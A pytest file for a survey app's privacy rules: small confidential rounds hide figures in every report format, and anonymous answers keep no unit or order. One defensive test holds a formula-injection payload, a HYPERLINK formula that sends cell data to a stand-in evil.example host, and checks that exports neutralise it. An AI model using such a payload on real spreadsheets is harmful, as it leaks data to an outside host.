"""Confidential and anonymous rounds reveal nobody: no figure from fewer than 5 respondents.

Issue 8 §1, on every channel: the results page, the HTML, PDF and XLSX reports and the CLI's
JSON and table. Open rounds show everything.
"""

from __future__ import annotations

import datetime
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfReader

from innovera.surveys.analysis import Response, analyse_round
from innovera.surveys.importing import parse_responses, write_responses_csv
from innovera.surveys.models import Round, SurveyMode, SurveyResponse
from innovera.surveys.privacy import shown_analysis
from innovera.surveys.services import ANONYMOUS_ID_RANGE, draft_save, response_submit
from innovera.surveys.tests.factories import make_invitation, make_office_user, make_round

HIDDEN = "färre än 5 svar"
DECIMAL = re.compile(r"\d,\d\d")
"""A mean or a difference as the reports print it (3,75); shares are whole per cent."""


def respondents(org_types: list[str], *, marker: str = "Hemlig") -> list[Response]:
    """Answers whose means have two decimals, and free text that names itself."""
    responses = []
    for index, org_type in enumerate(org_types):
        answers: dict[str, object] = {
            "sa_overall": (1, 2, 4)[index % 3],
            "sa_culture": (2, 3, 3, 4)[index % 4],
            "uses_concept": index % 3 != 0,
            "idea_sources": frozenset({"employees", "managers"} if index % 2 else {"employees"}),
            "factor_curiosity_importance": (4, 3, 4)[index % 3],
            "factor_curiosity_current": (2, 3, 1)[index % 3],
            "innovation_examples": f"{marker} idé nummer {index}",
        }
        if index < 3:  # three respondents only rate procurement: a small item in a large round
            answers["sa_procurement"] = 1 + index
        responses.append(Response(f"r{index}", org_type, answers))
    return responses


def import_round(tmp_path: Path, responses: list[Response], *extra: str) -> Round:
    path = tmp_path / "svar.csv"
    write_responses_csv(responses, {}, path)
    call_command(
        "survey",
        "import",
        str(path),
        "--round",
        "liten",
        "--invited",
        "district=40,department=10,company=10",
        *extra,
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    return Round.objects.get(name="liten")


def cli(*args: str) -> str:
    out = io.StringIO()
    call_command("survey", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def data_cells(html: str) -> Iterator[tuple[str, str]]:
    """(table caption, cell text) of every <td> outside the response-rate table."""
    for table in re.findall(r"<table.*?</table>", html, flags=re.S):
        caption = re.search(r"<caption>(.*?)</caption>", table, flags=re.S)
        title = caption.group(1) if caption else ""
        if title.startswith("Svarsfrekvens"):
            continue
        for cell in re.findall(r"<td>(.*?)</td>", table, flags=re.S):
            yield title, cell


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def reports(client: Client, name: str) -> dict[str, Any]:
    results = client.get(reverse("surveys:round_results", args=[name]))
    html = client.get(reverse("surveys:round_report", args=[name, "html"]))
    pdf = client.get(reverse("surveys:round_report", args=[name, "pdf"]))
    xlsx = client.get(reverse("surveys:round_report", args=[name, "xlsx"]))
    assert {r.status_code for r in (results, html, pdf, xlsx)} == {200}
    return {
        "results": results.content.decode(),
        "html": html.content.decode(),
        "pdf": pdf_text(pdf.content),
        "xlsx": openpyxl.load_workbook(io.BytesIO(xlsx.content)),
    }


@pytest.fixture
def office(client: Client) -> Client:
    client.force_login(make_office_user())
    return client


# --- the done-when test of issue 8 ---------------------------------------------------------------


@pytest.mark.django_db
def test_a_confidential_round_of_three_shows_no_figure_and_no_free_text_anywhere(
    tmp_path: Path, office: Client
) -> None:
    survey_round = import_round(tmp_path, respondents(["district", "district", "company"]))
    assert survey_round.mode == SurveyMode.CONFIDENTIAL  # the command's default

    shown = reports(office, "liten")

    for channel in ("results", "html", "pdf"):
        text = shown[channel]
        assert "Hemlig" not in text, channel
        assert not DECIMAL.search(text), (channel, DECIMAL.findall(text))
    for channel in ("results", "html"):
        cells = list(data_cells(shown[channel]))
        assert cells
        assert {cell for _title, cell in cells} <= {HIDDEN, "\N{EN DASH}"}, channel
        assert "Fritextsvaren visas inte" in shown[channel]
    assert HIDDEN in shown["pdf"]
    workbook = shown["xlsx"]
    assert "Fritext" not in workbook.sheetnames
    for sheet in workbook.worksheets:
        if sheet.title == "Svarsfrekvens":
            continue
        values = [
            cell for row in sheet.iter_rows(min_row=2, min_col=2, values_only=True) for cell in row
        ]
        assert all(value in {HIDDEN, "\N{EN DASH}", None} for value in values), sheet.title


@pytest.mark.django_db
def test_the_same_round_with_forty_answers_shows_everything_but_cells_under_five(
    tmp_path: Path, office: Client
) -> None:
    import_round(tmp_path, respondents(["district"] * 34 + ["department"] * 3 + ["company"] * 3))

    shown = reports(office, "liten")

    for channel in ("results", "html", "pdf"):
        text = shown[channel]
        assert "Hemlig idé nummer 7" in text, channel
        assert DECIMAL.search(text), channel
        assert HIDDEN in text, channel  # procurement (3 answers), two unit types of 3
    cells = dict(data_cells(shown["html"]))
    assert any(cell not in {HIDDEN, "\N{EN DASH}"} for cell in cells.values())
    breakdown = re.search(r"<caption>Per typ av organisation.*?</table>", shown["html"], re.S)
    assert breakdown is not None
    row = re.search(r"<th scope=\"row\">Hur bedömer du innovationsförmågan.*?</tr>", breakdown[0])
    assert row is not None
    assert re.findall(r"<td>(.*?)</td>", row[0])[1:] == [HIDDEN, HIDDEN]
    assert DECIMAL.fullmatch(re.findall(r"<td>(.*?)</td>", row[0])[0])
    workbook = shown["xlsx"]
    assert workbook["Fritext"].max_row == 41
    scale = {row[0].value: row for row in workbook["Självskattning"].iter_rows(min_row=2)}
    procurement = next(row for text, row in scale.items() if "upphandling" in str(text))
    assert procurement[1].value == HIDDEN
    overall = next(row for text, row in scale.items() if "som helhet" in str(text))
    assert isinstance(overall[1].value, float)


@pytest.mark.django_db
def test_the_command_line_json_and_table_hide_the_small_round_too(tmp_path: Path) -> None:
    import_round(tmp_path, respondents(["district", "district", "company"]))

    printed = json.loads(cli("analyse", "--round", "liten", "--format", "json"))
    table = cli("analyse", "--round", "liten", "--format", "table")

    overall = printed["items"]["sa_overall"]
    assert overall["mean"] is None and overall["suppressed"] is True
    assert overall["distribution"] is None
    assert printed["items"]["uses_concept"]["yes_share"] is None
    assert printed["multi"]["idea_sources"]["options"]["employees"]["count"] is None
    curiosity = printed["factors"]["curiosity"]
    assert curiosity["importance"]["mean"] is None and curiosity["gap"] is None
    assert printed["suppression"] == {"min_respondents": 5}
    assert printed["responded"] == 3  # who answered is not what they answered
    assert HIDDEN in table
    figures = table.split("Självskattning")[1].split("Kvadrantlinjer")[0]  # lines fixed at 3,00
    assert not DECIMAL.search(figures)


@pytest.mark.django_db
def test_an_open_round_shows_every_figure_and_its_free_text(tmp_path: Path, office: Client) -> None:
    import_round(tmp_path, respondents(["district", "district", "company"]), "--mode", "open")

    shown = reports(office, "liten")
    printed = json.loads(cli("analyse", "--round", "liten"))

    assert "Hemlig idé nummer 2" in shown["html"]
    assert "2,33" in shown["html"]  # sa_overall (1 + 2 + 4) / 3
    assert printed["items"]["sa_overall"]["mean"] == pytest.approx(7 / 3)
    assert "suppressed" not in printed["items"]["sa_overall"]


@pytest.mark.django_db
def test_the_threshold_is_a_setting(tmp_path: Path, office: Client, settings: Any) -> None:
    settings.SURVEY_MIN_RESPONDENTS = 3
    import_round(tmp_path, respondents(["district", "district", "company"]))

    printed = json.loads(cli("analyse", "--round", "liten"))

    assert printed["items"]["sa_overall"]["mean"] == pytest.approx(7 / 3)
    assert printed["items"]["sa_procurement"]["mean"] == pytest.approx(2.0)
    assert printed["items"]["sa_overall"]["by_org_type"]["company"]["suppressed"] is True


@pytest.mark.django_db
def test_an_import_names_the_mode_and_cannot_change_it_later(tmp_path: Path) -> None:
    survey_round = import_round(tmp_path, respondents(["district"] * 5), "--mode", "anonymous")
    assert survey_round.mode == SurveyMode.ANONYMOUS

    with pytest.raises(CommandError, match="anonym"):
        import_round(tmp_path, respondents(["company"] * 5), "--mode", "open", "--replace")
    assert SurveyResponse.objects.count() == 5


# --- anonymous rounds ---------------------------------------------------------------------------


@pytest.mark.django_db
def test_an_anonymous_answer_keeps_neither_day_nor_unit_nor_order() -> None:
    survey_round = make_round(mode=SurveyMode.ANONYMOUS)
    survey_round.created_at = timezone.now() - datetime.timedelta(days=40)
    survey_round.save(update_fields=["created_at"])
    sent = []
    for _ in range(3):
        invitation, _token = make_invitation(survey_round)
        draft_save(invitation=invitation, answers={"sa_overall": 3})
        sent.append(response_submit(invitation=invitation))

    invitations = list(survey_round.invitations.all())
    assert all(i.answered and i.responded_at is None for i in invitations)
    low, high = ANONYMOUS_ID_RANGE
    assert all(low <= response.pk < high for response in sent)
    assert [r.pk for r in sent] != sorted(r.pk for r in sent) or len({r.pk for r in sent}) == 3
    assert {response.org_unit for response in sent} == {""}
    first_day = timezone.localtime(survey_round.created_at).date()
    assert {timezone.localtime(r.submitted_at).date() for r in sent} == {first_day}
    assert all(invitation.unit.slug not in r.respondent_id for r in sent)  # type: ignore[union-attr]


# --- the rule over any data -----------------------------------------------------------------------

ORG_TYPES = st.sampled_from(["district", "department", "company"])


@st.composite
def rounds(draw: st.DrawFn) -> list[Response]:
    count = draw(st.integers(min_value=1, max_value=12))
    return [
        Response(
            f"r{index}",
            draw(ORG_TYPES),
            {
                code: value
                for code, value in {
                    "sa_overall": draw(st.sampled_from([1, 2, 3, 4, "dk", None])),
                    "uses_concept": draw(st.sampled_from([True, False, None])),
                    "factor_curiosity_importance": draw(st.sampled_from([1, 2, 3, 4, None])),
                    "factor_curiosity_current": draw(st.sampled_from([1, 2, 3, 4, "dk", None])),
                }.items()
                if value is not None
            },
        )
        for index in range(count)
    ]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rounds())
def test_no_shown_figure_rests_on_fewer_than_five(responses: list[Response]) -> None:
    invited = {"district": 20, "department": 20, "company": 20}
    raw_analysis = analyse_round(responses, invited, round_name="r")
    raw: Any = raw_analysis
    shown: Any = shown_analysis(raw_analysis, mode="confidential", min_respondents=5)

    overall, raw_overall = shown["items"]["sa_overall"], raw["items"]["sa_overall"]
    assert (overall["mean"] is not None) == (raw_overall["n"] >= 5 and len(responses) >= 5)
    for cell, raw_cell in zip(
        overall["by_org_type"].values(), raw_overall["by_org_type"].values(), strict=True
    ):
        if cell["mean"] is not None:
            assert raw_cell["n"] >= 5
    yes_no, raw_yes_no = shown["items"]["uses_concept"], raw["items"]["uses_concept"]
    if yes_no["yes_share"] is not None:
        assert raw_yes_no["yes"] + raw_yes_no["no"] >= 5
    curiosity, raw_curiosity = shown["factors"]["curiosity"], raw["factors"]["curiosity"]
    if curiosity["gap"] is not None:
        assert min(raw_curiosity["importance"]["n"], raw_curiosity["current"]["n"]) >= 5
    if curiosity["paired"]["mean_diff"] is not None:
        assert raw_curiosity["paired"]["n"] >= 5
    if len(responses) < 5:
        assert json.dumps(shown).count("true") >= 1
        assert overall["n"] is None and overall["distribution"] is None
    assert shown_analysis(raw_analysis, mode="identified", min_respondents=5) == raw_analysis


# --- formula injection (issue 8 §2, finding 3) ----------------------------------------------------


@pytest.mark.django_db
def test_a_formula_in_free_text_is_text_in_the_workbook_and_the_answer_file(
    tmp_path: Path, office: Client
) -> None:
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Öppna")'
    answers = respondents(["district"] * 5)
    answers[0].answers["innovation_examples"] = formula  # type: ignore[index]
    import_round(tmp_path, answers)

    xlsx = office.get(reverse("surveys:round_report", args=["liten", "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content))["Fritext"]
    cell = next(c for row in sheet.iter_rows(min_row=2) for c in row if c.value == formula)
    assert cell.data_type == "s" and cell.quotePrefix

    exported = tmp_path / "ut.csv"
    write_responses_csv(answers, {}, exported)
    assert "'=HYPERLINK" in exported.read_text(encoding="utf-8-sig")
    again = parse_responses(exported)
    assert again.responses[0].answers["innovation_examples"] == formula


@pytest.mark.django_db
def test_the_follow_up_dashboards_trend_hides_a_small_confidential_round(tmp_path: Path) -> None:
    from innovera.followup.selectors import survey_trend

    import_round(tmp_path, respondents(["district", "district", "company"]))

    trend = survey_trend(until=timezone.localdate(), lang="sv", org_label="staden")

    (entry,) = trend.rounds
    assert entry.gaps["curiosity"] is None
    assert entry.means["sa_overall"] == (0, None)


@pytest.mark.django_db
def test_free_text_is_shown_in_no_order_of_sending_and_beside_no_unit_type(
    tmp_path: Path, office: Client
) -> None:
    # Sent in reverse alphabetical order, by units of three types.
    sent = [
        Response(
            response.respondent_id,
            response.org_type,
            {**response.answers, "innovation_examples": f"Svar {chr(ord('J') - number)}"},
        )
        for number, response in enumerate(
            respondents(["district"] * 4 + ["department"] * 3 + ["company"] * 3)
        )
    ]
    import_round(tmp_path, sent)

    shown = reports(office, "liten")

    sheet = shown["xlsx"]["Fritext"]
    rows = [[cell for cell in row if cell is not None] for row in sheet.iter_rows(values_only=True)]
    answers = [cell for row in rows for cell in row if str(cell).startswith("Svar ")]
    assert answers == sorted(answers) and len(answers) == 10
    assert not any(
        label in str(cell)
        for row in rows
        for cell in row
        for label in ("district", "department", "company", "Stadsdel", "Fackförvaltning", "Bolag")
    )
    page = shown["results"]
    assert page.index("Svar A") < page.index("Svar J")
